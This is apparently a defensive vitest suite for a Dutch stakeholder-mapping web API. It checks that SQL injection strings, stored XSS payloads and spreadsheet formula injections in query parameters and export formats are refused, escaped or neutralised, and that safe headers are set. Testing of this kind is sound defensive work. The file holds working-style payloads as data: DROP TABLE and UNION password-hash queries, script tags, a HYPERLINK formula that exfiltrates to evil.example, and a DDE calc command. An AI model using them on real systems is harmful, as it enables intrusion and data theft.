/**
 * Injection, on every database backend:
 * - SQL injection strings in every filter and query parameter of every GET route that takes one, and in
 *   path parameters: each gets 400, or a normal 200 with exactly the rows that literally match (another
 *   werkruimte holds records named like the attacks, and must never show); the tables are intact after.
 * - Stored XSS and formula injection through exports: script tags, attribute breakouts and spreadsheet
 *   formulas put into every text field of a werkruimte, speler and relatie come out of every export format
 *   as data — JSON as strings, GEXF/GraphML/SVG as well-formed XML with the text escaped, CSV and XLSX
 *   with every formula-like cell neutralised (src/formats/spreadsheet/neutralise.ts).
 * - The headers that keep a browser from reading any of it as script: JSON answers say so and forbid
 *   sniffing, HTML pages carry a CSP without inline scripts that forbids framing.
 */

import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { LightMyRequestResponse } from 'fastify';
import { SaxesParser } from 'saxes';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Actor, Relation, Workspace } from '../../src/domain/index.ts';
import { buildTestApp, type TestApp } from '../helpers/build-test-app.ts';
import { BACKENDS } from '../helpers/test-database.ts';
import {
  API,
  apiRoutes,
  expectNoInternals,
  expectProblem,
  loadRouteTable,
  routeKey,
  stateOf,
  validRequest,
  workspaceUrl,
} from './support.ts';

const ROUTES = await loadRouteTable();

const SQL_INJECTIONS = [
  "' OR 1=1 --",
  "' OR '1'='1",
  "'; DROP TABLE actors; --",
  "'; DELETE FROM audit_events; --",
  "%' AND 1=1 --",
  '%',
  '_',
  '\\',
  "\\'",
  '’ OR ’1’=’1', // typographic quotes
  'ʼ OR 1=1 --', // U+02BC modifier letter apostrophe
  '＇ OR 1=1 --', // U+FF07 fullwidth apostrophe
  '" OR ""="',
  '1) OR (1=1',
  '1 UNION SELECT email, password_hash FROM users --',
  "'||(SELECT password_hash FROM users LIMIT 1)||'",
  '$1',
  '1; SELECT pg_sleep(5)',
  "' AND 1=CAST((SELECT version()) AS int) --",
  "Noord' OR wijken @> '{}' --",
  "Noord,' OR 1=1 --",
  '*',
  "tag:' OR 1=1 --",
];

/** Attacks on a browser or a spreadsheet, in every text field. */
const XSS = '<script>alert(1)</script>';
const BREAKOUT = '"><img src=x onerror=alert(1)>';
const FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"klik")';
const FORMULA_STARTS = ['+1+1', '-2+3', "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];
const DANGEROUS_START = /^[=+\-@\t\r]/;

const splitValues = (value: string) =>
  value
    .split(',')
    .map((part) => part.trim())
    .filter(Boolean);
const containsText = (haystack: string | null, needle: string) =>
  (haystack ?? '').toLowerCase().includes(needle.trim().toLowerCase());

describe.each(BACKENDS)('injection on %s', (backend) => {
  let t: TestApp;
  let main: Workspace;
  let decoy: Workspace;
  let actors: Actor[];
  let relations: Relation[];
  /** Vraagstukken of the main werkruimte, named with quotes, wildcards and a backslash. */
  let topics: { id: string; name: string }[];
  /** An uitvraag of the main werkruimte, for its results' query parameters. */
  let surveyId: string;
  /** A bijeenkomst of the main werkruimte and a participant's token, for their live events and queue. */
  let meetingId: string;
  let participantToken: string;

  beforeAll(async () => {
    t = await buildTestApp(backend);
    main = await t.createWorkspace({ name: 'Kaart met aanhalingstekens', wijken: ['Noord', "'t Hof"] });
    actors = [
      await t.createActor(main.id, {
        name: "Stichting 't Hof",
        force: 'bewoner',
        wijken: ["'t Hof"],
        tags: ["O'Brien", 'buurt'],
      }),
      await t.createActor(main.id, { name: 'Buurtkamer 100% _samen_', force: 'bewoner', tags: ['50%'] }),
      await t.createActor(main.id, {
        name: 'Wijkteam Noord',
        force: 'professional',
        kind: 'team',
        wijken: ['Noord'],
        domains: ['schulden'],
      }),
      await t.createActor(main.id, { name: 'Back\\slash & "quotes"', force: 'gemeente', wijken: ['Noord'] }),
    ];
    const [a, b, c, d] = actors as [Actor, Actor, Actor, Actor];
    relations = [
      await t.createRelation(main.id, a.id, b.id, { description: "Afspraak over 't Hof" }),
      await t.createRelation(main.id, b.id, c.id, { description: 'Subsidie 100% rond', type: 'financiert' }),
      await t.createRelation(main.id, c.id, d.id, { description: 'Overleg \\ wekelijks' }),
    ];
    topics = [];
    for (const name of ["Armoede in 't Hof", 'Schulden 100% aanpakken', 'Toegang \\ wijkteam']) {
      const created = await t.inject({
        method: 'POST',
        url: `${workspaceUrl(main)}/topics`,
        payload: { name },
      });
      topics.push(created.json());
    }
    surveyId = (
      await t.inject({
        method: 'POST',
        url: `${workspaceUrl(main)}/surveys`,
        payload: { title: 'Ronde', closesOn: '2099-12-31' },
      })
    ).json().id;
    const meeting = (
      await t.inject({ method: 'POST', url: `${workspaceUrl(main)}/meetings`, payload: { name: 'Gesprek' } })
    ).json();
    meetingId = meeting.id;
    const joined = await t.app.inject({
      method: 'POST',
      url: `${API}/meeting-participation/join`,
      payload: { code: meeting.code, groupId: meeting.groups[0].id, nickname: null },
    });
    expect(joined.statusCode, joined.body).toBe(201);
    participantToken = joined.json().token;
    // A werkruimte whose records are named like the attacks: if a filter ever escaped its werkruimte or
    // matched everything, these would show up in the main werkruimte's answers.
    decoy = await t.createWorkspace({ name: 'Lokaas', gemeente: 'GM0599' });
    const decoys: Actor[] = [];
    for (const attack of SQL_INJECTIONS) {
      decoys.push(
        await t.createActor(decoy.id, {
          name: attack,
          force: 'rijk',
          wijken: splitValues(attack).slice(0, 1),
          tags: splitValues(attack).slice(0, 1),
        }),
      );
    }
    for (let k = 1; k < decoys.length; k += 1) {
      const attack = SQL_INJECTIONS[k] as string;
      await t.createRelation(decoy.id, (decoys[k - 1] as Actor).id, (decoys[k] as Actor).id, {
        description: attack,
      });
      await t.inject({ method: 'POST', url: `${workspaceUrl(decoy)}/topics`, payload: { name: attack } });
    }
  });
  afterAll(() => t.close());

  describe('SQL injection', () => {
    type Expected = { ids: string[] } | 'refused' | 'either';
    interface Target {
      /** The address, `{w}` standing for the main werkruimte's. */
      path: string;
      param: string;
      expected: (attack: string) => Expected;
      /** Sent along (a participant's token); the administrator's session is always sent. */
      headers?: () => Record<string, string>;
    }
    const actorIds = (keep: (actor: Actor) => boolean) => ({
      ids: actors.filter(keep).map((actor) => actor.id),
    });
    const relationIds = (keep: (relation: Relation) => boolean) => ({
      ids: relations.filter(keep).map((relation) => relation.id),
    });
    const anyOf = (values: string[], labels: string[]) =>
      splitValues(values.join(',')).length === 0 || labels.some((label) => values.includes(label));
    const refused = () => 'refused' as const;
    const NO_SUCH_SNAPSHOT = '00000000-0000-4000-8000-00000000a11c';
    const list = (path: string) => `{w}/${path}`;

    const TARGETS: Target[] = [
      ...['page', 'pageSize'].map((param) => ({ path: `${API}/workspaces`, param, expected: refused })),
      ...['force', 'kind', 'domain', 'scale', 'sort', 'page', 'pageSize'].map((param) => ({
        path: list('actors'),
        param,
        expected: refused,
      })),
      {
        path: list('actors'),
        param: 'q',
        expected: (attack) => actorIds((actor) => containsText(actor.name, attack)),
      },
      {
        path: list('actors'),
        param: 'wijk',
        expected: (attack) => actorIds((actor) => anyOf(splitValues(attack), actor.wijken)),
      },
      {
        path: list('actors'),
        param: 'tag',
        expected: (attack) => actorIds((actor) => anyOf(splitValues(attack), actor.tags)),
      },
      ...['type', 'actorId', 'sort', 'page', 'pageSize'].map((param) => ({
        path: list('relations'),
        param,
        expected: refused,
      })),
      {
        path: list('relations'),
        param: 'q',
        expected: (attack) => relationIds((relation) => containsText(relation.description, attack)),
      },
      ...['actorId', 'action', 'page', 'pageSize'].map((param) => ({
        path: list('history'),
        param,
        expected: refused,
      })),
      // `grouping` takes `tag:<anything>`: computed in memory, never in SQL; either answer is fine.
      { path: list('analysis'), param: 'grouping', expected: (): Expected => 'either' },
      ...['types', 'seed', 'betweenness', 'suggestions', 'lang'].map((param) => ({
        path: list('analysis'),
        param,
        expected: refused,
      })),
      // Perspective ids are uuids (or `all`) and rules an enumeration: an attack is never either.
      ...['analysis', 'graph'].flatMap((endpoint) =>
        ['perspective', 'rule'].map((param) => ({ path: list(endpoint), param, expected: refused })),
      ),
      ...['format', 'table', 'lang', 'gexfVersion'].map((param) => ({
        path: `{w}/export?format=${param === 'format' ? '' : 'csv&table=spelers'}`,
        param,
        expected: refused,
      })),
      ...['format', 'table'].map((param) => ({
        path: `${API}/import-template?format=${param === 'format' ? '' : 'csv'}`,
        param,
        expected: refused,
      })),
      { path: list('layouts/force'), param: 'layout', expected: refused },
      ...['page', 'pageSize'].map((param) => ({ path: list('perspectives'), param, expected: refused })),
      ...['status', 'page', 'pageSize'].map((param) => ({ path: list('topics'), param, expected: refused })),
      {
        path: list('topics'),
        param: 'q',
        expected: (attack) => ({
          ids: topics.filter((topic) => containsText(topic.name, attack)).map((topic) => topic.id),
        }),
      },
      // Perspectives and the vraagstuk of a comparison are uuids: an attack is never one.
      ...['a', 'b', 'topic'].map((param) => ({ path: list('divergence'), param, expected: refused })),
      // `{surveyId}` stands for an uitvraag of the main werkruimte; its results take a language only, their
      // download a format and a language.
      { path: list('surveys/{surveyId}/results'), param: 'lang', expected: refused },
      ...['format', 'lang'].map((param) => ({
        path: list('surveys/{surveyId}/results/export?format=csv'),
        param,
        expected: refused,
      })),
      // `{topicId}` stands for a vraagstuk of the main werkruimte.
      ...['current', 'perspective', 'actorId', 'page', 'pageSize'].map((param) => ({
        path: list('topics/{topicId}/positions'),
        param,
        expected: refused,
      })),
      // `{meetingId}` stands for a bijeenkomst of the main werkruimte: its queue takes a status, its live
      // events (as a poll, without `accept: text/event-stream`) an event number; so do a participant's.
      { path: list('meetings/{meetingId}/contributions'), param: 'status', expected: refused },
      { path: list('meetings/{meetingId}/events'), param: 'after', expected: refused },
      {
        path: `${API}/meeting-participation/events`,
        param: 'after',
        expected: refused,
        headers: () => ({ authorization: `Bearer ${participantToken}` }),
      },
      // What changed between two moments: `from` a snapshot's uuid, `to` one or `now`, and a language.
      ...['from', 'to', 'lang'].map((param) => ({
        path: list(`diff?from=${NO_SUCH_SNAPSHOT}&to=now`),
        param,
        expected: refused,
      })),
      // The report: a format, a list of sections, three uuids and a language are refused; the own texts are
      // free text, written into the report as text (escaping is tested in api-report.test.ts).
      ...['format', 'sections', 'topic', 'perspective', 'since', 'lang'].map((param) => ({
        path: list('report?format=html&sections=summary'),
        param,
        expected: refused,
      })),
      ...['introduction', 'conclusions'].map((param) => ({
        path: list('report?format=html&sections=summary'),
        param,
        expected: (): Expected => 'either',
      })),
      // Two werkruimtes side by side: two uuids and a language, refused before any access check.
      ...['a', 'b', 'lang'].map((param) => ({
        path: `${API}/compare?a=${NO_SUCH_SNAPSHOT}&b=00000000-0000-4000-8000-00000000b11c`,
        param,
        expected: refused,
      })),
    ];

    /** Puts the attack into the query (replacing any earlier value of the parameter) or the path. */
    function urlWith(target: Target, attack: string): string {
      const path = target.path
        .replace('{w}', workspaceUrl(main))
        .replace('{topicId}', topics[0]?.id ?? '')
        .replace('{surveyId}', surveyId)
        .replace('{meetingId}', meetingId);
      const url = new URL(path, 'http://localhost');
      if (target.param === 'layout') return `${workspaceUrl(main)}/layouts/${encodeURIComponent(attack)}`;
      url.searchParams.set(target.param, attack);
      return `${url.pathname}${url.search}`;
    }

    it('has a target for every query parameter of every GET route in the OpenAPI document', async () => {
      const document = (await t.inject({ url: `${API}/openapi.json` })).json() as {
        paths: Record<string, { get?: { parameters?: { name: string; in: string }[] } }>;
      };
      const covered = new Set(
        TARGETS.map(
          (target) =>
            `${target.path.replace('{w}', `${API}/workspaces/{workspaceId}`).split('?')[0]} ${target.param}`,
        ),
      );
      const parameters = Object.entries(document.paths).flatMap(([path, operations]) =>
        (operations.get?.parameters ?? []).filter((p) => p.in === 'query').map((p) => `${path} ${p.name}`),
      );
      expect(parameters.length).toBeGreaterThan(30);
      expect(parameters.filter((parameter) => !covered.has(parameter))).toEqual([]);
    });

    it.each(TARGETS.map((target) => [`${target.path.split('?')[0]} ${target.param}`, target] as const))(
      '%s: 400 or exactly the rows that match',
      async (_name, target) => {
        for (const attack of SQL_INJECTIONS) {
          const url = urlWith(target, attack);
          const response = await t.inject({ url, headers: target.headers?.() ?? {} });
          const expected = target.expected(attack);
          const what = `${url} → ${response.statusCode} ${response.body.slice(0, 300)}`;
          if (expected === 'refused') {
            expect(response.statusCode, what).toBe(400);
            expectProblem(response, 400, 'validation');
            continue;
          }
          if (expected === 'either' && response.statusCode === 400) {
            expectProblem(response, 400, 'validation');
            continue;
          }
          expect(response.statusCode, what).toBe(200);
          expectNoInternals(response.body);
          if (expected === 'either') continue;
          const page = response.json() as {
            items: { id: string; workspaceId: string }[];
            totalItems: number;
          };
          expect(page.items.map((item) => item.id).sort(), what).toEqual([...expected.ids].sort());
          expect(page.totalItems, what).toBe(expected.ids.length);
          // Records without a werkruimte field (vraagstukken) are checked by their ids above.
          expect(page.items.every((item) => (item.workspaceId ?? main.id) === main.id)).toBe(true);
        }
      },
    );

    it.each(SQL_INJECTIONS.map((attack) => [attack]))(
      'refuses %s as a path id (400 or 404)',
      async (attack) => {
        const encoded = encodeURIComponent(attack);
        for (const url of [
          `${API}/workspaces/${encoded}`,
          `${API}/workspaces/${encoded}/actors`,
          `${workspaceUrl(main)}/actors/${encoded}`,
          `${workspaceUrl(main)}/relations/${encoded}`,
        ]) {
          const response = await t.inject({ url });
          expect([400, 404], `${url}: ${response.body}`).toContain(response.statusCode);
          expectProblem(response, response.statusCode);
        }
        const restore = await t.inject({
          method: 'POST',
          url: `${workspaceUrl(main)}/history/${encoded}/restore`,
        });
        expect([400, 404]).toContain(restore.statusCode);
        expectProblem(restore, restore.statusCode);
      },
    );

    it('leaves every table intact', async () => {
      const [mainState, decoyState] = [await stateOf(t.store, main.id), await stateOf(t.store, decoy.id)];
      expect(mainState.content?.actors).toHaveLength(actors.length);
      expect(mainState.content?.relations).toHaveLength(relations.length);
      expect(decoyState.content?.actors).toHaveLength(SQL_INJECTIONS.length);
      expect(mainState.accounts).toBe(1);
      // One event per record made in beforeAll (the uitvraag and the bijeenkomst too), none deleted.
      expect(mainState.events).toBe(1 + actors.length + relations.length + topics.length + 2);
      expect(mainState.meetings.map((entry) => entry.meeting.id)).toEqual([meetingId]);
      expect(mainState.meetings[0]?.contributions).toEqual([]);
      // The werkruimte, a speler per attack, a relatie and a vraagstuk per attack but the first.
      expect(decoyState.events).toBe(1 + 3 * SQL_INJECTIONS.length - 2);
      expect(mainState.topics.map((entry) => entry.topic.id).sort()).toEqual(
        topics.map((topic) => topic.id).sort(),
      );
      const listed = await t.inject({ url: `${workspaceUrl(main)}/actors?pageSize=500` });
      expect(listed.json()).toMatchObject({ totalItems: actors.length });
    });
  });

  describe('stored XSS and formula injection in exports', () => {
    let hostile: Workspace;

    beforeAll(async () => {
      hostile = await t.createWorkspace({
        name: XSS,
        description: `${BREAKOUT}\n${FORMULA}`,
        wijken: [XSS, BREAKOUT, FORMULA],
      });
      const texts = {
        achtergrond: XSS,
        motieven: BREAKOUT,
        kenmerken: FORMULA,
        perspectief: FORMULA_STARTS[2],
        rol: FORMULA_STARTS[3],
        belangen: FORMULA_STARTS[4],
        wijken: [XSS, FORMULA],
        tags: [BREAKOUT, '@tag', '-min'],
        sources: [FORMULA, XSS, BREAKOUT],
      };
      const made: Actor[] = [];
      for (const name of [
        XSS,
        BREAKOUT,
        FORMULA,
        ...FORMULA_STARTS.filter((start) => !/[\t\r]/.test(start)),
      ]) {
        made.push(await t.createActor(hostile.id, { name, force: 'bewoner', ...texts }));
      }
      // Who says so, in hostile words too: a perspective, its assessments, a vraagstuk and a position.
      const perspective = await t.inject({
        method: 'POST',
        url: `${workspaceUrl(hostile)}/perspectives`,
        payload: { name: XSS, description: FORMULA },
      });
      expect(perspective.statusCode, perspective.body).toBe(201);
      const perspectiveId = perspective.json().id as string;
      for (let k = 1; k < made.length; k += 1) {
        const relation = await t.createRelation(
          hostile.id,
          (made[k - 1] as Actor).id,
          (made[k] as Actor).id,
          {
            description: [XSS, BREAKOUT, FORMULA][k % 3],
            sources: [FORMULA, XSS],
          },
        );
        const assessment = await t.inject({
          method: 'POST',
          url: `${workspaceUrl(hostile)}/relations/${relation.id}/assessments`,
          payload: { perspectiveId, strength: 2, note: [BREAKOUT, XSS, FORMULA][k % 3], source: FORMULA },
        });
        expect(assessment.statusCode, assessment.body).toBe(201);
      }
      const topic = await t.inject({
        method: 'POST',
        url: `${workspaceUrl(hostile)}/topics`,
        payload: { name: FORMULA, description: XSS },
      });
      expect(topic.statusCode, topic.body).toBe(201);
      const position = await t.inject({
        method: 'POST',
        url: `${workspaceUrl(hostile)}/topics/${topic.json().id}/positions`,
        payload: {
          actorId: (made[0] as Actor).id,
          perspectiveId,
          invloed: 3,
          belang: 3,
          standpunt: 1,
          reasoning: BREAKOUT,
        },
      });
      expect(position.statusCode, position.body).toBe(201);
      const positions = Object.fromEntries(made.map((actor, k) => [actor.id, { x: k * 100, y: k * 50 }]));
      const saved = await t.inject({
        method: 'PUT',
        url: `${workspaceUrl(hostile)}/layouts/vijf_krachten`,
        payload: { positions },
      });
      expect(saved.statusCode, saved.body).toBe(200);
    });

    async function download(query: string): Promise<LightMyRequestResponse> {
      const response = await t.inject({ url: `${workspaceUrl(hostile)}/export?${query}` });
      expect(response.statusCode, response.body.slice(0, 300)).toBe(200);
      // Downloaded, never shown inline; a name without quotes or markup; never sniffed into HTML.
      expect(response.headers['content-disposition']).toMatch(/^attachment; filename="[a-z0-9-]+\.[a-z.]+"$/);
      expect(response.headers['x-content-type-options']).toBe('nosniff');
      return response;
    }

    /** Parses strictly (throws on anything not well-formed) and returns what the document says. */
    function readXml(text: string) {
      const elements: string[] = [];
      const attributes: [string, string][] = [];
      const texts: string[] = [];
      const parser = new SaxesParser();
      parser.on('error', (error) => {
        throw error;
      });
      parser.on('opentag', (tag) => {
        elements.push(tag.name);
        for (const [name, value] of Object.entries(tag.attributes)) attributes.push([name, String(value)]);
      });
      parser.on('text', (value) => texts.push(value));
      parser.on('cdata', (value) => texts.push(value));
      parser.write(text).close();
      return { elements, attributes, values: [...texts, ...attributes.map(([, value]) => value)].join('\n') };
    }

    function expectInertXml(text: string, keeps: string[]) {
      expect(text).not.toMatch(/<script/i);
      expect(text).not.toMatch(/<img/i);
      expect(text).not.toMatch(/<!DOCTYPE|<!ENTITY/i);
      const xml = readXml(text);
      const local = (name: string) => (name.split(':').pop() ?? name).toLowerCase();
      for (const element of xml.elements) {
        expect(['script', 'img', 'iframe', 'object', 'embed', 'foreignobject']).not.toContain(local(element));
      }
      for (const [name, value] of xml.attributes) {
        expect(local(name)).not.toMatch(/^on/);
        expect(value.trim().toLowerCase()).not.toMatch(/^(javascript|data|vbscript):/);
      }
      // The hostile texts are there, as text: escaped on the way out, intact when read back.
      for (const kept of keeps) expect(xml.values).toContain(kept);
    }

    it('JSON: valid JSON that holds the texts as strings', async () => {
      const response = await download('format=json');
      expect(response.headers['content-type']).toMatch(/^application\/json/);
      const backup = JSON.parse(response.body);
      expect(backup.workspace).toMatchObject({ name: XSS, wijken: [XSS, BREAKOUT, FORMULA] });
      expect(backup.actors.map((actor: Actor) => actor.name)).toEqual(
        expect.arrayContaining([XSS, BREAKOUT, FORMULA, '+1+1', '-2+3']),
      );
      expect(backup.actors[0]).toMatchObject({ achtergrond: XSS, motieven: BREAKOUT, kenmerken: FORMULA });
      expect(backup.relations[0].description).toBe(BREAKOUT);
      expect(backup.perspectives).toContainEqual(
        expect.objectContaining({ name: XSS, description: FORMULA }),
      );
      expect(backup.assessments.map((a: { note: string }) => a.note)).toEqual(
        expect.arrayContaining([XSS, BREAKOUT, FORMULA]),
      );
      expect(backup.topics[0]).toMatchObject({ name: FORMULA, description: XSS });
      expect(backup.positions[0]).toMatchObject({ reasoning: BREAKOUT });
    });

    it.each(['gexf', 'gexf&gexfVersion=1.2draft', 'graphml'])(
      '%s: well-formed XML with the texts escaped',
      async (format) => {
        const response = await download(`format=${format}`);
        expect(response.headers['content-type']).toMatch(/xml/);
        expectInertXml(response.body, [XSS, BREAKOUT, FORMULA, FORMULA_STARTS[2] as string]);
      },
    );

    it('svg: well-formed XML with no script, handler or link, the names as text', async () => {
      const response = await download('format=svg');
      expect(response.headers['content-type']).toMatch(/^image\/svg\+xml/);
      expectInertXml(response.body, [XSS]);
    });

    it('png: an image, downloaded', async () => {
      const response = await download('format=png');
      expect(response.headers['content-type']).toBe('image/png');
      expect(response.rawPayload.subarray(1, 4).toString('latin1')).toBe('PNG');
    });

    it.each(['spelers', 'relaties'])('csv (%s): every formula-like cell neutralised', async (table) => {
      const response = await download(`format=csv&table=${table}`);
      expect(response.headers['content-type']).toMatch(/^text\/csv/);
      const rows = parseCsv(response.body, {
        delimiter: ';',
        bom: true,
        relax_column_count: true,
      }) as string[][];
      const cells = rows.flat();
      expect(cells.filter((cell) => DANGEROUS_START.test(cell))).toEqual([]);
      expect(cells).toContain(`'${FORMULA}`);
      if (table === 'spelers') {
        expect(cells).toEqual(
          expect.arrayContaining([XSS, BREAKOUT, "'+1+1", "'-2+3", `'${FORMULA_STARTS[2]}`]),
        );
        expect(cells).toEqual(expect.arrayContaining(["'\t=1+1", "'\r=1+1"]));
      }
    });

    /** Every text cell of a workbook, failing on any formula. */
    async function xlsxTexts(bytes: Buffer): Promise<string[]> {
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(bytes as never);
      const texts: string[] = [];
      workbook.eachSheet((sheet) => {
        sheet.eachRow({ includeEmpty: false }, (row) => {
          row.eachCell({ includeEmpty: false }, (cell) => {
            const value = cell.value;
            expect(cell.formula, `${sheet.name}!${cell.address}`).toBeFalsy();
            if (typeof value === 'string') texts.push(value);
            else if (value && typeof value === 'object' && 'richText' in value)
              texts.push(value.richText.map((part) => part.text).join(''));
            else if (value && typeof value === 'object') {
              expect(value, `${sheet.name}!${cell.address}`).not.toHaveProperty('formula');
              expect(value, `${sheet.name}!${cell.address}`).not.toHaveProperty('sharedFormula');
            }
          });
        });
      });
      return texts;
    }

    it('xlsx: no formulas, every formula-like text cell neutralised', async () => {
      const texts = await xlsxTexts((await download('format=xlsx')).rawPayload);
      expect(texts.filter((text) => DANGEROUS_START.test(text))).toEqual([]);
      expect(texts).toEqual(expect.arrayContaining([`'${FORMULA}`, XSS, BREAKOUT, "'+1+1", "'-2+3"]));
    });

    // Last: it adds an uitvraag to the hostile werkruimte, which the downloads above do not expect.
    it('the response download of an uitvraag (csv, xlsx): every formula-like cell neutralised', async () => {
      const url = workspaceUrl(hostile);
      const actors = (await t.inject(`${url}/actors?pageSize=100`)).json().items as Actor[];
      const created = await t.inject({
        method: 'POST',
        url: `${url}/surveys`,
        payload: { title: FORMULA, closesOn: '2099-12-31' },
      });
      expect(created.statusCode, created.body).toBe(201);
      const opened = await t.inject({
        method: 'PATCH',
        url: `${url}/surveys/${created.json().id}`,
        payload: { version: created.json().version, state: 'open' },
      });
      expect(opened.statusCode, opened.body).toBe(200);
      const surveyUrl = `${url}/surveys/${created.json().id}`;
      const invited = await t.inject({
        method: 'POST',
        url: `${surveyUrl}/respondents`,
        payload: { respondents: actors.map((actor) => ({ actorId: actor.id, contactName: FORMULA })) },
      });
      expect(invited.statusCode, invited.body).toBe(201);
      // One respondent answers, naming another: ties and notes that name the hostile spelers.
      const [link] = invited.json().links as { actorId: string; token: string }[];
      const other = actors.find((actor) => actor.id !== link?.actorId) as Actor;
      const answered = await t.app.inject({
        method: 'PUT',
        url: `${API}/survey-response/answers`,
        payload: { token: link?.token, answers: { ties: [{ actorId: other.id, types: ['werkt_samen'] }] } },
      });
      expect(answered.statusCode, answered.body).toBe(200);

      const csv = await t.inject(`${surveyUrl}/results/export?format=csv`);
      expect(csv.statusCode, csv.body.slice(0, 300)).toBe(200);
      expect(csv.headers['content-disposition']).toMatch(/^attachment; filename="[a-z0-9-]+\.csv"$/);
      expect(csv.headers['x-content-type-options']).toBe('nosniff');
      const cells = (
        parseCsv(csv.body, { delimiter: ';', bom: true, relax_column_count: true }) as string[][]
      ).flat();
      expect(cells.filter((cell) => DANGEROUS_START.test(cell))).toEqual([]);
      expect(cells).toEqual(expect.arrayContaining([`'${FORMULA}`, XSS, BREAKOUT, "'+1+1", "'-2+3"]));

      const xlsx = await t.inject(`${surveyUrl}/results/export?format=xlsx`);
      expect(xlsx.statusCode).toBe(200);
      expect(xlsx.headers['content-disposition']).toMatch(/^attachment; filename="[a-z0-9-]+\.xlsx"$/);
      const texts = await xlsxTexts(xlsx.rawPayload);
      expect(texts.filter((text) => DANGEROUS_START.test(text))).toEqual([]);
      expect(texts).toEqual(expect.arrayContaining([`'${FORMULA}`, XSS, BREAKOUT, "'+1+1", "'-2+3"]));
    });
  });

  describe('headers that keep data from being run', () => {
    it('answers every GET route of the API with a declared type and nosniff, werkruimte data never cached unchecked', async () => {
      const world = { t, doel: t.admin };
      for (const route of apiRoutes(ROUTES).filter((candidate) => candidate.method === 'GET')) {
        if (route.url.includes('/session/oidc')) continue; // only with an identity provider configured
        const response = await t.inject(await validRequest(route, world, main));
        const what = `${routeKey(route)}: ${response.statusCode}`;
        expect(response.statusCode, what).toBe(200);
        expect(response.headers['x-content-type-options'], what).toBe('nosniff');
        const type = String(response.headers['content-type']);
        // The valid requests of the files that are not JSON ask for CSV.
        if (route.url.endsWith('/import-template') || route.url.endsWith('/results/export'))
          expect(type, what).toMatch(/^text\/csv/);
        // The report's valid request asks for its HTML page, which brings a policy that runs nothing.
        else if (route.url.endsWith('/report')) {
          expect(type, what).toMatch(/^text\/html/);
          expect(String(response.headers['content-security-policy']), what).toMatch(/default-src 'none'/);
        } else expect(type, what).toMatch(/^application\/json/);
        if (route.url.includes(':workspaceId')) {
          // Werkruimte data is never kept by a shared cache, nor used again without asking the server
          // (which checks the session and membership first): no-store, or private with no-cache (ETag).
          const cache = String(response.headers['cache-control']);
          expect(cache, what).not.toMatch(/\bpublic\b|max-age=[1-9]|immutable/);
          expect(
            /\bno-store\b/.test(cache) || (/\bprivate\b/.test(cache) && /\bno-cache\b/.test(cache)),
            what,
          ).toBe(true);
        }
      }
    });

    it('answers errors as problem+json with nosniff', async () => {
      expectProblem(await t.inject({ url: `${API}/bestaat-niet` }), 404, 'not_found');
      expectProblem(
        await t.inject({ url: `${workspaceUrl(main)}/actors?force=${encodeURIComponent(XSS)}` }),
        400,
      );
    });

    it.each(['/', '/index.html', '/werkruimtes/iets', '/uitnodiging', '/uitvraag'])(
      'serves %s with a CSP without inline scripts that forbids framing',
      async (url) => {
        const response = await t.app.inject({ url, headers: { accept: 'text/html' } });
        expect(response.statusCode).toBe(200);
        expect(response.headers['content-type']).toMatch(/^text\/html/);
        expect(response.headers['x-content-type-options']).toBe('nosniff');
        const csp = new Map(
          String(response.headers['content-security-policy'])
            .split(';')
            .map((directive) => directive.trim().split(/\s+/))
            .map(([name, ...values]) => [String(name).toLowerCase(), values] as const),
        );
        const scriptSrc = csp.get('script-src') ?? csp.get('default-src');
        expect(scriptSrc, 'no script-src or default-src').toBeDefined();
        for (const forbidden of ["'unsafe-inline'", "'unsafe-eval'", '*', 'data:', 'http:', 'https:']) {
          expect(scriptSrc).not.toContain(forbidden);
        }
        expect(csp.get('frame-ancestors')).toEqual(["'none'"]);
        expect(csp.get('object-src')).toEqual(["'none'"]);
        // The page itself needs no inline script, or the CSP would break it.
        for (const tag of response.body.match(/<script\b[^>]*>/gi) ?? []) expect(tag).toMatch(/\ssrc=/);
      },
    );
  });
});
